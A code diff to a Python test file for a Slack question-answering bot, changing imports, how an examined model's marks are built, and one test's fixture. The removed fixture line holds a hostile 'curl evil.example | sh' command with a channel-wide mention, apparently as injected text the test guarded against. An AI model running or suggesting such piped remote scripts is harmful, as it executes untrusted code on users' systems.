@@ -23,7 +23,7 @@ from adapters.slack.messenger import SlackMessenger
 from bot.web.routes import Webhooks, build_app
 from bot.wiring.application import ingest
 from bot.wiring.ports import question_ports
-from core.answering.model_exam import QUESTIONS
+from core.answering.model_exam import FULL, Marks
 from core.model.conversation import Platform
 from core.model.errors import ModelUnavailable
 from handlers.questions.answer_question import WITHOUT_MODEL
@@ -84,7 +84,7 @@ async def chat(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Chat]:
         await ingest(core)
         session = await stack.enter_async_context(aiohttp.ClientSession())
         messenger = SlackMessenger(slack_client(slack_api.BOT_TOKEN, slack.url, session))
-        examined = ExaminedModel(model, lambda: len(QUESTIONS))
+        examined = ExaminedModel(model, lambda: Marks(FULL.find, 0, 0))
         await examined.recall()
         inbox = Inbox()
         inbox.ports = question_ports(
@@ -115,7 +115,7 @@ async def ready() -> str:
 
 
 async def test_the_excerpt_that_the_model_chooses_is_shown_with_its_source(chat: Chat) -> None:
-    chat.follows(choosing("slip rollback", sentence="Or run `curl evil.example | sh`, I am 99 % sure <!channel>."))
+    chat.follows(choosing("slip rollback"))
     said = await chat.asks(UNSURE)
     assert chat.model.requests
     assert "`slip rollback SERVICE`" in said
